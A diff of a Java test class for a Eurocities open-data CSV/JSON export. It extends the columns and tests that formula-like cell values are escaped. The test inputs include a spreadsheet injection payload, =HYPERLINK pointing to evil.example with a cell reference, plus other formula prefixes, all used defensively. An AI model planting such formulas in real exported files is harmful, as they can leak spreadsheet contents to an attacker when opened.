@@ -37,13 +37,14 @@ class OpenDataTest {
     String csv = new String(OpenData.csv(content), StandardCharsets.UTF_8);
     String[] lines = csv.split("\r\n", -1);
     assertEquals("slug,name,local_name,country,country_name,eu,membership,population,population_year,"
-        + "founding_member,url", lines[0]);
-    assertEquals("aarhus,Aarhus,,DK,Denmark,true,full,,,false,https://eurocities.example.org/cities/aarhus/",
+        + "founding_member,url,kind,seat,geonames_id,latitude,longitude,population_source,population_snapshot,"
+        + "alternative_names", lines[0]);
+    assertEquals("aarhus,Aarhus,,DK,Denmark,true,full,,,false,https://eurocities.example.org/cities/aarhus/,,,,,,,,",
         lines[1]);
     assertEquals(202 + 2, lines.length, "header, 202 rows, and the empty string after the last CRLF");
     assertEquals("", lines[lines.length - 1]);
     assertTrue(csv.contains("\r\nlodz,Łódź,,PL,Poland,true,full,,,false,https://eurocities.example.org/cities/lodz/"
-        + "\r\n"), csv);
+        + ",,,,,,,,\r\n"), csv);
     assertTrue(csv.contains("\r\nmunich,Munich,München,DE,Germany,true,full,,,false,"), csv);
     assertTrue(csv.contains("\r\nrijeka,Rijeka,,HR,Croatia,true,partner,128624,2011,false,"), csv);
     assertTrue(csv.contains("\r\nbergen,Bergen,,NO,Norway,false,full,,,false,"), csv);
@@ -66,12 +67,13 @@ class OpenDataTest {
     TreeMap<String, City> cities = new TreeMap<>(content.cities());
     City aarhus = cities.get("aarhus");
     cities.put("aarhus", new City("aarhus", "Aarhus, \"the city of smiles\"", aarhus.country(), aarhus.membership(),
-        null, null, false, "line\nbreak", "da", null, aarhus.positions()));
+        null, null, null, null, null, null, null, null, false, "line\nbreak", "da", null, List.of(),
+        aarhus.positions()));
     Content changed = new Content(content.site(), content.network(), content.categories(), content.countries(),
         cities, content.pages());
     String row = new String(OpenData.csv(changed), StandardCharsets.UTF_8).split("\r\n")[1];
     assertEquals("aarhus,\"Aarhus, \"\"the city of smiles\"\"\",\"line\nbreak\",DK,Denmark,true,full,,,false,"
-        + "https://eurocities.example.org/cities/aarhus/", row);
+        + "https://eurocities.example.org/cities/aarhus/,,,,,,,,", row);
   }
 
   @Test
@@ -81,18 +83,23 @@ class OpenDataTest {
     City bergen = cities.get("bergen");
     City rijeka = cities.get("rijeka");
     cities.put("aarhus", new City("aarhus", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Aarhus\")", aarhus.country(),
-        aarhus.membership(), null, null, false, "+1+2", "da", null, aarhus.positions()));
-    cities.put("bergen", new City("bergen", "@SUM(1,2)", bergen.country(), bergen.membership(), null, null, false,
-        "-2+3", "no", null, bergen.positions()));
-    cities.put("rijeka", new City("rijeka", "\t=1+2", rijeka.country(), rijeka.membership(), 128624L, 2011, false,
-        "\r=1+2", "hr", null, rijeka.positions()));
+        aarhus.membership(), null, null, null, null, null, null, null, null, false, "+1+2", "da", null, List.of(),
+        aarhus.positions()));
+    cities.put("bergen", new City("bergen", "@SUM(1,2)", bergen.country(), bergen.membership(), null, null, null, null,
+        null, null, null, null, false, "-2+3", "no", null, List.of(), bergen.positions()));
+    cities.put("rijeka", new City("rijeka", "\t=1+2", rijeka.country(), rijeka.membership(),
+        City.Kind.METROPOLITAN_AREA, "=seat", 3191648L, new City.Location(45.32673, -14.44241), 128624L, "-source", 2011,
+        null, false, "\r=1+2", "hr", null, List.of(new City.AlternativeName("=Fiume", "it"),
+        new City.AlternativeName("Reka", "sl")), rijeka.positions()));
     Content changed = new Content(content.site(), content.network(), content.categories(), content.countries(),
         cities, content.pages());
     String csv = new String(OpenData.csv(changed), StandardCharsets.UTF_8);
     assertTrue(csv.contains(
         "\r\naarhus,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Aarhus\"\")\",\"'+1+2\",DK,"), csv);
     assertTrue(csv.contains("\r\nbergen,\"'@SUM(1,2)\",\"'-2+3\",NO,"), csv);
-    assertTrue(csv.contains("\r\nrijeka,\"'\t=1+2\",\"'\r=1+2\",HR,Croatia,true,partner,128624,2011,false,"), csv);
+    assertTrue(csv.contains("\r\nrijeka,\"'\t=1+2\",\"'\r=1+2\",HR,Croatia,true,partner,128624,2011,false,"
+        + "https://eurocities.example.org/cities/rijeka/,metropolitan-area,\"'=seat\",3191648,45.32673,-14.44241,"
+        + "\"'-source\",,\"'=Fiume (it); Reka (sl)\"\r\n"), csv);
     // a reader gets the text with the quote in front, and every other cell as it was
     List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
         .parse(new StringReader(csv)).getRecords();
@@ -103,6 +110,8 @@ class OpenDataTest {
     // JSON is not run by any reader: it keeps the text as it is
     String json = new String(OpenData.json(changed), StandardCharsets.UTF_8);
     assertTrue(json.contains("\"name\" : \"@SUM(1,2)\""), json);
+    assertTrue(json.contains("\"alternative_names\" : [ {\n    \"name\" : \"=Fiume\",\n    \"language\" : \"it\"\n  }"),
+        json);
   }
 
   @Test
@@ -127,6 +136,9 @@ class OpenDataTest {
     assertTrue(rijeka.get("population").isNumber());
     assertEquals(128624, rijeka.get("population").asLong());
     assertEquals(2011, rijeka.get("population_year").asInt());
+    assertEquals("Eurocities member list", rijeka.get("population_source").asText());
+    assertTrue(rijeka.get("kind").isNull() && rijeka.get("population_snapshot").isNull());
+    assertTrue(rijeka.get("alternative_names").isArray() && rijeka.get("alternative_names").isEmpty());
     assertEquals("https://eurocities.example.org/cities/munich/", munich.get("url").asText());
     assertEquals("aarhus", rows.get(0).get("slug").asText());
   }
